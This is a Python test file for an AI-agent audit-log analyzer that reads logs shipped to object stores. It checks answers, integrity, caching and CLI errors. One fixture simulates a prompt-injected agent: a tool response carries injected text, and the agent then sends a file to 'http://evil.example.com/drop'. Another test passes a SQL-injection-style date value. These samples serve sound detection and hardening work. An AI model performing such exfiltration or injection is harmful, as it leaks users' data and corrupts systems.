"""Questions to a store that many hosts ship to: the answers are those that the hosts' own logs give."""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from agent_audit import AuditLogger, FileAuditBackend
from agent_audit.analysis import AuditAnalyzer
from agent_audit.analysis.shipped import Shipped
from agent_audit.backends.file.layout import Layout
from agent_audit.cli.main import main
from agent_audit.errors import ConfigurationError, LogNotFoundError, StoreRefusedError
from agent_audit.event import AuditEvent
from agent_audit.object_store.bucket import Entry
from agent_audit.ship import Shipper, open_sink
from tests.analysis.logs import event, operation
from tests.analysis.questions import INJECTED, QUESTIONS, answers, something_of_everything
from tests.ship.conftest import Store
from tests.ship.stores import QUICK
from tests.ship.test_shipper import origin_of

Captured = pytest.CaptureFixture[str]
Hosts = dict[str, str]
"""Log directory -> name of the log."""


def host(root: Path, events: list[AuditEvent]) -> Path:
    """The log of one host."""
    with AuditLogger(FileAuditBackend(root), durability="buffered") as logger:
        for one in events:
            logger.log(one)
    return root


def shipped(root: Path, url: str) -> str:
    """Ship a log in small batches; returns its name."""
    Shipper(root, open_sink(url), limits=QUICK).run(once=True)
    return origin_of(root)


@cache
def hosts_in(folder: Path) -> tuple[Path, ...]:
    """Three hosts: the same sessions on two of them, a line that is no event in the third."""
    calls = [e for n in range(120) for e in operation("tool.call", "tool.response", f"s{n}", at=n, action="tool.t")]
    logs = [host(folder / name, something_of_everything()) for name in ("one", "two")]
    logs.append(host(folder / "three", calls))
    segment = Layout(logs[2]).segment(0)
    lines = segment.read_bytes().splitlines(keepends=True)
    segment.write_bytes(b"".join([*lines[:70], b"no event\n", *lines[71:]]))
    return tuple(logs)


@cache
def answers_of_hosts(folder: Path) -> dict[str, Any]:
    """What their own directories answer, in the order of the logs' names, as a store has them."""
    names = {str(root): origin_of(root) for root in hosts_in(folder)}
    return answers(in_order(names), names)


@pytest.fixture
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hosts', which are the same for all tests: their answers take longest."""
    return tmp_path_factory.getbasetemp() / "hosts"


def fleet(folder: Path, url: str) -> Hosts:
    """The three hosts, shipped."""
    return {str(root): shipped(root, url) for root in hosts_in(folder)}


def in_order(hosts: Hosts) -> list[str]:
    """The directories in the order of their logs' names, as a store has them."""
    return sorted(hosts, key=lambda root: hosts[root])


def assert_equal_answers(url: str, folder: Path) -> None:
    there = answers(url, {origin: origin for origin in map(origin_of, hosts_in(folder))})
    here = answers_of_hosts(folder)
    for name in QUESTIONS:
        assert there[name] == here[name], name


def test_every_question_to_a_store_has_the_answer_that_the_logs_directories_give(store: Store, folder: Path) -> None:
    hosts = fleet(folder, store.url)
    assert_equal_answers(store.url, folder)
    with AuditAnalyzer(store.url) as analyzer:
        assert [(str(line.path), line.number) for line in analyzer.bad_lines] == [(list(hosts.values())[2], 71)]
        assert {found.rule for found in analyzer.detect_anomalies().findings} >= {"denials", "injected-action"}


def parquet(url: str) -> list[Path]:
    return sorted(Path(url.removeprefix("file://"), "events").rglob("*.parquet"))


DAMAGES: list[Callable[[Path], object]] = [
    lambda path: path.unlink(),
    lambda path: path.write_bytes(path.read_bytes()[:-9]),
    lambda path: path.write_bytes(b""),
]


def test_events_whose_parquet_is_missing_or_damaged_are_read_from_their_lines(tmp_path: Path, folder: Path) -> None:
    url = f"file://{tmp_path}/store"
    fleet(folder, url)
    files = parquet(url)
    assert len(files) > len(DAMAGES)
    for path, damage in zip((files[0], files[len(files) // 2], files[-1]), DAMAGES, strict=True):
        damage(path)
    assert_equal_answers(url, folder)


@pytest.mark.parametrize("day", ["2026-01-01'); CREATE VIEW x AS (SELECT 1", "*", "2026-01-0[1-9]", "today"])
def test_files_with_names_of_others_making_are_no_files_of_the_log(tmp_path: Path, day: str) -> None:
    url = f"file://{tmp_path}/store"
    shipped(host(tmp_path / "log", [event("tool.call", at=n) for n in range(20)]), url)
    ours = parquet(url)[0]
    for name in ("00000000000000000000.parquet", "00000000000000000007.parquet"):
        theirs = ours.parent.with_name(f"date={day}") / name
        theirs.parent.mkdir(exist_ok=True)
        theirs.write_bytes(ours.read_bytes())
    with AuditAnalyzer(url) as analyzer:
        assert analyzer.get_agent_activity().by_type["tool.call"] == 20
        assert not analyzer.bad_lines


def test_lines_that_were_damaged_in_the_store_are_told_and_the_parquet_still_counts(tmp_path: Path) -> None:
    url = f"file://{tmp_path}/store"
    origin = shipped(host(tmp_path / "log", [event("tool.call", at=n) for n in range(20)]), url)
    (lines,) = Path(tmp_path, "store", "logs").rglob("lines/*")
    lines.write_bytes(lines.read_bytes()[:-9])
    with AuditAnalyzer(url) as analyzer:
        assert analyzer.get_agent_activity().by_type["tool.call"] == 20
        (bad,) = analyzer.bad_lines
    assert str(bad).startswith(f"{origin}:1: ")
    assert "was changed" in str(bad)


def test_positions_holes_and_beginnings_are_those_of_each_log(tmp_path: Path) -> None:
    url = f"file://{tmp_path}/store"
    hosts = {str(tmp_path / name): "" for name in ("whole", "holed", "cut")}
    for root in hosts:
        host(Path(root), [event("tool.call", at=n) for n in range(40)])
    for name, kept in (("holed", [*range(10), *range(13, 42)]), ("cut", list(range(5, 42)))):
        segment = Layout(tmp_path / name).segment(0)
        lines = segment.read_bytes().splitlines(keepends=True)
        segment.write_bytes(b"".join(lines[number] for number in kept))
    with AuditAnalyzer(list(hosts)) as analyzer:
        report = analyzer.generate_compliance_report()
    found = report.integrity
    assert (found.logs, found.missing_seq, found.repeated_seq) == (3, 3, 0)
    assert (found.missing_seq_ranges, found.missing_seq_logs) == (((10, 12),), (str(tmp_path / "holed"),))
    assert (found.first_seq, found.late_beginnings) == (0, 1)
    told = " ".join(report.missing)
    assert f"({tmp_path / 'holed'}: 10-12)" in told
    assert "1 of 3 logs begin behind position 0" in told
    shipped(Path(next(iter(hosts))), url)
    with AuditAnalyzer(url) as analyzer:
        assert analyzer.generate_compliance_report().integrity.sound


def test_logs_that_are_looked_at_together_make_no_findings_that_none_of_them_has(tmp_path: Path) -> None:
    url, who = f"file://{tmp_path}/store", {"session_id": "x"}
    read = [event("tool.response", action="tool.read_customer", outcome="success", result={"text": INJECTED}, **who)]
    sent = [event("tool.call", action="tool.send_file", parameters={"to": "http://evil.example.com/drop"}, **who)]
    approved = [event("action.approved", call_id="c", metadata={"arguments": {"hmac_sha256": "aa"}})]
    called = [event("tool.call", call_id="c", span_id="c", metadata={"arguments": {"hmac_sha256": "bb"}})]
    burst = [event("tool.call", at=60 + n / 10, span_id=f"b{n}") for n in range(6)]
    suspicious = {"injected-action", "instructed-action", "changed-arguments", "rapid-actions", "lethal-trifecta"}
    shipped(host(tmp_path / "a", [*read, *approved, *burst]), url)
    shipped(host(tmp_path / "b", [event("error"), *sent, *called, *burst]), url)
    with AuditAnalyzer(url) as analyzer:
        assert not suspicious & {found.rule for found in analyzer.detect_anomalies().findings}
    with AuditAnalyzer(host(tmp_path / "c", [*read, *approved, *sent, *called, *burst, *burst])) as analyzer:
        assert suspicious - {"lethal-trifecta"} <= {found.rule for found in analyzer.detect_anomalies().findings}


def test_what_was_fetched_is_kept_for_the_next_analysis_and_nobody_else_may_read_it(
    s3_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shipped(host(tmp_path / "log", something_of_everything()), s3_store.url)
    with AuditAnalyzer(s3_store.url) as analyzer:
        before = str(analyzer.get_agent_activity())

    def refuse(store: Shipped, entry: Entry) -> bytes:
        raise AssertionError(f"{entry.path} was fetched again")

    monkeypatch.setattr(Shipped, "content", refuse)
    with AuditAnalyzer(s3_store.url) as analyzer:
        assert str(analyzer.get_agent_activity()) == before
    kept = tmp_path / "cache" / "agent-audit-log" / "shipped"
    assert {path.stat().st_mode & 0o077 for path in [kept, *kept.iterdir()]} == {0}


def test_what_is_kept_stays_within_its_limit_and_more_is_refused_with_what_to_do(
    s3_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sizes = {}
    for name in ("a", "b"):
        url = f"{s3_store.url}/{name}"
        shipped(host(tmp_path / name, [event("tool.call", at=n) for n in range(30)]), url)
        sizes[url] = sum(e.size for log in Shipped(url).logs() for part in log.parts for e in part.files)
    monkeypatch.setenv("AGENT_AUDIT_CACHE_BYTES", str(max(sizes.values())))
    for url in sizes:
        with AuditAnalyzer(url) as analyzer:
            assert analyzer.get_agent_activity().by_type["tool.call"] == 30
    kept = list((tmp_path / "cache" / "agent-audit-log" / "shipped").glob("*.parquet"))
    assert sum(path.stat().st_size for path in kept) == list(sizes.values())[1]
    with pytest.raises(ConfigurationError, match="AGENT_AUDIT_CACHE_BYTES to more"):
        AuditAnalyzer(list(sizes))


def test_one_log_in_two_sources_is_not_counted_twice(tmp_path: Path) -> None:
    urls = [f"file://{tmp_path}/store{n}" for n in (1, 2)]
    root = host(tmp_path / "log", [event("tool.call")])
    origin, _ = (shipped(root, url) for url in urls)
    with pytest.raises(ConfigurationError, match=f"{origin}: in .*store2 and in another source"):
        AuditAnalyzer(urls)


@pytest.mark.parametrize("command", [["activity"], ["sessions"], ["timeline", "x"], ["cost"], ["compliance"]])
def test_commands_answer_over_a_store_as_over_directories(tmp_path: Path, capsys: Captured, command: list[str]) -> None:
    root = host(tmp_path / "log", something_of_everything())
    origin = shipped(root, f"file://{tmp_path}/store")
    form = ["--format", "json"]
    verifying = ["--no-verify"] if command == ["compliance"] else []
    assert main([*command, *form, *verifying, "--source", str(tmp_path / "store")]) == 0
    there = capsys.readouterr().out
    assert main([*command, "--dir", str(root), *form, *verifying]) == 0
    assert json.loads(there) == json.loads(capsys.readouterr().out.replace(str(root), origin))


def test_findings_and_a_report_come_from_a_store_too(tmp_path: Path) -> None:
    shipped(host(tmp_path / "log", something_of_everything()), f"file://{tmp_path}/store")
    page = tmp_path / "report.html"
    assert main(["report", "--source", f"file://{tmp_path}/store", "--html", str(page)]) == 0
    assert "injected-action" in page.read_text() or "told it to" in page.read_text()
    assert main(["anomalies", "--source", str(tmp_path / "store")]) == 1


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("ftp://host/logs", "ftp:// keeps no logs that can be analysed; one of: s3://"),
        ("otlp://host:4318", "keeps no logs that can be analysed"),
        ("s3://user:hunter2@bucket/x", "a password does not belong in the URL"),
        ("s3://bucket?key=1", "settings of the store come from the environment"),
        ("s3://bucket/x", "no credentials for s3://: set one of AWS_ACCESS_KEY_ID"),
        ("file:///", "names no bucket or directory"),
        ("nowhere", "is no directory; name what was given to `ship --to`"),
    ],
)
def test_a_source_that_cannot_be_says_what_to_do(
    tmp_path: Path, capsys: Captured, monkeypatch: pytest.MonkeyPatch, source: str, told: str
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["activity", "--source", source]) == 2
    error = capsys.readouterr().err
    assert told in error
    assert "hunter2" not in error


def test_a_directory_without_shipped_logs_and_two_kinds_of_logs_are_refused(tmp_path: Path, capsys: Captured) -> None:
    root = host(tmp_path / "log", [event("tool.call")])
    with pytest.raises(LogNotFoundError, match="it is itself a log"):
        AuditAnalyzer(root.as_uri())
    with pytest.raises(ConfigurationError, match="cannot be analysed together"):
        AuditAnalyzer([root.as_uri(), str(root)])
    assert main(["activity", str(root), "--source", str(root)]) == 2
    assert "name only one kind" in capsys.readouterr().err


def test_a_store_of_any_cloud_is_analysed_and_its_logs_are_verified(
    every_store: Store, tmp_path: Path, capsys: Captured
) -> None:
    shipped(host(tmp_path / "log", [event("tool.call", at=n, span_id=f"s{n}") for n in range(300)]), every_store.url)
    with AuditAnalyzer(every_store.url) as analyzer:
        assert analyzer.get_agent_activity("a").total_events == 300
    assert main(["fleet", "verify", every_store.url, "--events"]) == 0
    assert "VALID" in capsys.readouterr().out


def test_a_bucket_that_is_not_there_is_named(far_store: Store) -> None:
    with pytest.raises(StoreRefusedError, match="does the bucket exist"):
        AuditAnalyzer(far_store.url.partition(":")[0] + "://no-such-bucket/prod")


def test_without_the_extra_the_error_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    for name in ("agent_audit.analysis.shipped", "agent_audit.object_store.bucket"):
        monkeypatch.delitem(sys.modules, name, raising=False)
    monkeypatch.setitem(sys.modules, "obstore", None)
    with pytest.raises(ConfigurationError, match=r"pip install 'agent-audit-log\[objects\]'"):
        AuditAnalyzer(f"file://{tmp_path}")


def test_spark_reads_shipped_logs_alone_and_says_what_it_needs(
    tmp_path: Path, capsys: Captured, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    root = host(tmp_path / "log", [event("tool.call")])
    assert main(["activity", str(root), "--engine", "spark"]) == 2
    assert "name a store with --source" in capsys.readouterr().err
    with pytest.raises(ConfigurationError, match="engine is 'flink'; one of: duckdb, spark"):
        AuditAnalyzer(root, engine="flink")
    with pytest.raises(ConfigurationError, match="a master is for --engine spark"):
        AuditAnalyzer(root, master="local[2]")
    monkeypatch.setitem(sys.modules, "pyspark", None)
    monkeypatch.setitem(sys.modules, "pyspark.sql", None)
    assert main(["anomalies", "--source", str(tmp_path), "--engine", "spark", "--master", "local[2]"]) == 2
    assert "pip install 'agent-audit-log[spark]'" in capsys.readouterr().err
